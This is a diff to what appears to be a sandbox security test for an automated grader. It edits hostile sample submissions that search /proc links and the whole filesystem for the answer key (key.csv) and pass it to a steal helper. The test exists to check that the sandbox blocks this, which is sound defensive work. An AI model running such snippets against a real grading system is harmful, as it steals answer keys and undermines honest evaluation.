@@ -45,13 +45,11 @@ ATTACKS = {
     # the grader's working folder and open files, through /proc, then its key.csv
     "proc": STEAL + '''
 for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
-    for what in ("cwd", "root"):
-        try:
-            for k in glob.glob(os.readlink(f"/proc/{pid}/{what}") + "/**/key.csv",
-                               recursive=True):
-                _steal(k)
-        except OSError:
-            pass
+    try:
+        for k in glob.glob(os.readlink(f"/proc/{pid}/cwd") + "/**/key.csv", recursive=True):
+            _steal(k)
+    except OSError:
+        pass
     try:
         for fd in os.listdir(f"/proc/{pid}/fd"):
             p = os.readlink(f"/proc/{pid}/fd/{fd}")
@@ -63,6 +61,9 @@ for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
     # every file named key.csv anywhere, and the class folder's path guessed right
     "walker": STEAL + '''
 for root, dirs, files in os.walk("/"):
+    # everything but the system's and the Python packages' own trees
+    dirs[:] = [x for x in dirs if os.path.join(root, x) not in ("/proc", "/sys", "/usr")
+               and x not in ("site-packages", "lib")]
     if "key.csv" in files:
         _steal(os.path.join(root, "key.csv"))
 try:
@@ -189,8 +190,8 @@ class _Listener:
 @pytest.fixture(scope="module")
 def hostile(tmp_path_factory):
     """The class graded once: the console, the grades, the folders before and after."""
-    if S.find_bwrap() is None:
-        pytest.skip("bubblewrap (bwrap) is not installed")
+    if S.find_bwrap() is None and os.environ.get("CI") != "true":
+        pytest.skip("bubblewrap (bwrap) is not installed: apt-get install bubblewrap")
     root = tmp_path_factory.mktemp("hostile")
     d = root / "class"
     T.generate_class("slider_crank", IDS, d, seed=SEED)
